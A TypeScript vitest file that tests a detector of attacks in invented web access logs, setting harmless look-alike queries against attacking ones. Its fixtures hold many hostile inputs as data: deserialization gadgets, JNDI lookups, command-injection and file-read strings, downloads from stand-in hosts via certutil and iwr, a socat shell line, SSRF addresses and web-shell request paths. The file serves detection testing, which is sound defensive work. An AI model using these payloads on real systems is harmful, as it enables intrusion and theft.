// Attacks in a parameter by kinds that carry little or odd syntax, and ordinary values beside them.
import { beforeAll, expect, it } from 'vitest';
import { detect, type Line, request } from './invented-logs.test-support.ts';

/** Values of a parameter, before percent-encoding. */
const attacks: readonly string[] = [
  // Objects that run code when they are read
  'O:8:"stdClass":1:{s:1:"a";s:2:"id";}',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
  '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x.example/a"}',
  'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=',
  'gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
  'BAhvOg1BY3Rpb25WaWV3OjpCYXNl',
  '--- !ruby/object:Gem::Installer',
  // Commands and code without any syntax that runs them
  'whoami',
  'uname -a',
  'netstat -an',
  'cmd.exe /c dir',
  'powershell -nop -w hidden',
  'net user guest p /add',
  "exec master..xp_cmdshell 'dir'",
  'nslookup x1.oast.fun',
  'certutil -urlcache -f http://x.example/a',
  'iwr http://x.example/a -OutFile b',
  'find / -perm -4000',
  'java.lang.ProcessBuilder',
  'freemarker.template.utility.Execute',
  'session.use_trans_sid=1',
  'HTTP_ACCEPT_LANGUAGE',
  'cHJvY2Vzc2J1aWxkZXI=',
  '/e[t]c/pa[s]swd',
  '$z/bin$z/ls',
  // Lines of a header, by characters that older servers cut down to CR and LF
  'x\u560d\u560aSet-Cookie:a=b',
  '\r\n bcc: anna@example.org',
  // Names of headers behind a line's end, encoded once more than usual
  'a\r\nHost: x.example',
  'a\r\nTransfer-Encoding: chunked',
  '%250d%250aSet-Cookie: a=b',
  '%u000d%u000aSet-Cookie: a=b',
  '\r\nto: anna@example.org',
  // Look-ups taken apart, inner addresses written otherwise, operators
  '${jnd${upper:\u0131}:ldap://x.example/a}',
  '${${date:j}ndi:rmi://x.example}',
  'http://0251.0376.0251.0376/',
  'http://[0:0:0:0:0:ffff:127.0.0.1]',
  'https://kubernetes.default.svc/api',
  '{"$in":["admin","root"]}',
  '1||1==1//',
  'this.password.match(/a/)',
  '{$smarty.version}',
  'upper*))\u0000',
  '/wEykAYAAQAAAP////8BAAAAAAAAAAwCAAAAXk1p',
  // A filter's end
  "*()|&'",
  '*)\u0000',
  'x)(cn=))',
  // Names of objects in whose reading something runs, by other writers than before
  '{"__type":"System.Diagnostics.Process"}',
  '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]',
  '<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>',
  'gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==',
  'BAhvOhVBY3RpdmVSZWNvcmQ=',
  // Words taken apart, commands of caches and databases, places that call back
  '1 uni/**/on sel/**/ect 1,2',
  '\r\nSET key x\r\n',
  "db.getCollection('users').find()",
  '1; return true',
  'http://x.canarytokens.com/',
  '& timeout 10',
  // Files by their names alone
  '.git/config',
  'wp-config.php',
  '.bash_history',
  'winnt/repair/sam',
  // Constants behind a choice, commands joined by one sign or taken apart, names that lead to inner addresses
  '1 or 2 between 1 and 3',
  '-1 or not false',
  "'-'",
  'a.example&&whoami',
  'a.example & ipconfig /all',
  '& net user x p /add',
  '^&whoami^&',
  ';c\\at /et\\c/pas\\swd',
  'a;export X=id;$X',
  ';$(tr a-z b-za <<< hc)',
  'http://7f000001.c0a80001.rbndr.us/',
  'http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/',
  'ogg://x',
  '/run/secrets/kubernetes.io/serviceaccount/token',
  "'] | //user/*[contains(*,'",
  '{__type(name:"User"){fields{name}}}',
  // Interpreters with an option and nothing before them, code by its signs, a database's own procedures
  "ruby -rsocket -e 'exit'",
  'find . -exec id \\;',
  'socat TCP:10.0.0.1:1 EXEC:sh',
  'cmd.exe /Q /c dir',
  '$env:windir',
  "'sys'.'tem'('id')",
  '#{%x(id)}',
  'for(;;){}',
  '[alert][0].call(this,1)',
  '[][(![]+[])[+[]]]',
  "openrowset('x')",
  "utl_http.request('http://x.example')",
  'declare @x varchar(99)',
  '1 like 1',
  'URL:http://x.example/x',
  // Names alone: of functions, of cmdlets, of parts of a page or a database
  ...['base64_decode', 'proc_open', 'Get-Process', 'document.cookie', '.innerHTML', 'sysobjects', 'dbms_pipe.receive'],
  ...['usr/bin/perl', 'dev/tcp/192.0.2.9/80', 'ognl.OgnlContext', 'bin2hex(x)', '2147483648', '@charset'],
  // A program and its option behind a separator, a mail server's commands, code in six signs
  ...[';lsb_release -a', '|lscpu -e', '192.0.2.9;dir', '\r\nFETCH 4 BODY', '![]+![]', '[].map.call`x`', '$(id7)'],
  // Operators that a value begins with or ends in
  ...['1 && 1', '1 || 1', "<>'x", 'match(a) against(b)', '1e1union select', "1 AND USER_NAME() = 'dbo'"],
  'http://2852039166/',
  // Less usual programs behind a separator, what a shell says by itself, words of a command where nobody searches
  ...[';tclsh', '|qwinsta', '&icacls x', ';taskkill /im x', '$PATH', '${#x}', '${x//a/b}', 'x 2>&1', 'w^h^o^ami'],
  ...["ca''t x", ';. /tmp/x', '(new Exception)->x', 'redirect:${1}', 'child_process', '169.254.169.254', '$$x'],
  ...[';nproc', '|arch', '&&lsmod', "require_once('x')", "Class.forName('x')", 'pickle.loads(x)', 'process.version'],
];
/** The same, in a parameter that is none of a search. */
const elsewhere: readonly string[] = ['nohup id', 'timeout 5 id', 'wmic process list', 'alter table x', 'sudo su'];
const requests: readonly string[] = [
  'POST /u/picture.php;.jpg',
  'GET /xleet.php',
  'GET /get?name=shell.php',
  'GET /plugins/form/file-upload/server/content/upload.php',
  'POST /uploads/2026/11/x.php%00.jpg',
  'GET /x.jsp?cmd=id',
  'GET /storage/x.php7?0=system',
  'POST /kcfinder/upload.php',
  'GET /elfinder/php/connector.php?cmd=mkfile&name=x.php',
  'POST /modules/columnadverts/uploadimage.php',
  'GET /uploads/face.php.jpg',
  'GET /uploads/x.asp;1.jpg',
  'GET /UploadFiles/1.asp',
  'POST /.index.php?pass=z0',
  'POST /upload.php?name=x.php',
  'GET /list?$where=1',
  'GET /town-hall.example.tar.gz',
  'HEAD /backup/www.town.tokyo.zip',
  'GET /config/database.yml',
  'GET /application-prod.properties',
  'GET /guestaccess.aspx',
  'GET /app/rest/users/id:1/tokens/RPC2',
  'GET /hax?jsp=/app/rest/server;.jsp',
  'POST /druid/indexer/v1/sampler',
  'GET /api/index.php/v1/config/application?public=true',
  'POST /webui/logoutconfirm.html?logon_hash=1',
  'POST /alfacgiapi/perl.alfa',
  'GET /?class.classLoader.URLs%5B0%5D=0',
  'GET /nacos/v1/auth/users?pageNo=1&pageSize=9',
  'GET /containers/json',
  'GET /jolokia/exec/java.lang:type=Memory/gc',
  'GET /webui_wsma_http',
  'GET /app?service=page/SetupCompleted',
  'GET /default.aspx::$DATA',
  'GET /wp-includes/css/about.php7',
  'GET /?rest_route=/wp/v2/users',
  // Base64 as short as a template, without padding, with a plus that nobody encoded, as a folder
  'GET /search?q=JHs3Kjd9',
  'GET /e3s3Kjd9fQ',
  'GET /search?q=JyBvciAxPTEgLS0+&x=1',
  'GET /search?q=Z29waGVyOi8vMTI3LjAuMC4xOjYzNzkvX0lORk8',
  // A no-break space as one byte, a folder that is itself
  'GET /list?id=1%A0UNION%A0ALL%A0SELECT%a02',
  'GET /get?name=/etc/./passwd',
];
const ordinary: readonly string[] = [
  ...['who', 'last orders', 'id card', 'cat /dog food', 'docker', 'powershell course', 'curl cream', 'find my phone'],
  ...[
    'ping pong',
    'net user growth',
    'tar sands',
    'history of Rome',
    'Java in a nutshell',
    'service manual',
    'session 3',
  ],
  ...['{"@type":"Person","name":"Anna"}', 'aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91', 'report.env.pdf', 'cc: all of you'],
];
const ordinaryRequests: readonly string[] = [
  'GET /_next/image?url=https%3A%2F%2Fcdn.example.com%2Fa.jpg&w=300',
  'GET /thumb?src=https://cdn.example.com/a.png&w=80',
  'GET /index.php?c=system&a=list',
  'GET /search?q=%E7%B5%90%E5%90%88+union',
  'GET /search?q=%E9%81%B8%E6%8A%9E(select)',
  'GET /seashells.php',
  'POST /note?text=dear+anna%0D%0Afrom+the+host:+welcome%0D%0Ato:+all',
  'GET /search.php?q=dir',
  'GET /actuator/health/liveness',
  'GET /index.php?rest_route=%2Fwp%2Fv2%2Fusers%2Fme&_locale=user',
  'GET /$metadata',
  `GET /search?q=${encodeURIComponent("10' or 12' ladder")}`,
  `GET /search?q=${encodeURIComponent('ls -la の意味')}`,
  'GET /files/report.jsp;jsessionid=0F1E?page=2',
  'POST /upload.php?name=holiday.jpg',
  'GET /shop/list;color=red;size=4.jpg',
  'GET /sitemap.xml.gz',
  'GET /manual.ja.zip',
  'GET /downloads/tool.example.tar.gz',
  'GET /search?q=return+true+love;+1',
  'GET /p/eyJpZCI6NX0',
  'GET /arcgis/rest/services/roads/query?where=1%3D1&f=json',
  'GET /t?k=C74uX-CI9e5hIKLS53de7--5CNWyqkU',
  'GET /search?q=%E3%81%A0%E3%81%A0union%E3%81%A0select',
  'GET /api/items?limit=2147483647',
  'GET /rest/api/2/search?jql=assignee+is+null',
  'GET /items?select=id,name,count(orders)',
  'GET /search?q=grant+all+access',
  'GET /contact?message=Hello%0D%0Auser+manual%0D%0Aplease',
  'GET /list?tags=linux|hostnamectl',
  'GET /ping?ip=192.0.2.9;port=80',
  'GET /chart?chl=|oak|elm|ash|&x=%26Sons',
  'GET /map?include="Kyoto"',
  'GET /files?match=glob&sort=name;-date',
  'GET /shop?name=Union+Table+Lamp&location=tokyo',
];

const client = (group: number, i: number) => `198.51.${100 + group}.${i + 1}`;
const inQuery = (value: string) => `GET /search?q=${encodeURIComponent(value)}`;
const inCommand = (value: string) => `GET /run?target=${encodeURIComponent(value)}`;
const groups = [attacks.map(inQuery), requests, ordinary.map(inQuery), ordinaryRequests, elsewhere.map(inCommand)];
let found: Set<string>;
beforeAll(async () => {
  const lines: Line[] = groups.flatMap((asked, group) =>
    asked.map((asks, i) => request({ at: group * 7_200 + i * 60, client: client(group, i), asks, size: 8_000 })),
  );
  const { actors } = await detect({ 'access.log': lines });
  found = new Set(actors.map(({ id }) => id));
}, 60_000);

it.each([0, 1, 4])('holds every attack of group %d against its client', (group) => {
  expect(groups[group]?.filter((_, i) => !found.has(client(group, i)))).toEqual([]);
});

it.each([2, 3])('holds nothing of group %d against anybody', (group) => {
  expect(groups[group]?.filter((_, i) => found.has(client(group, i)))).toEqual([]);
});
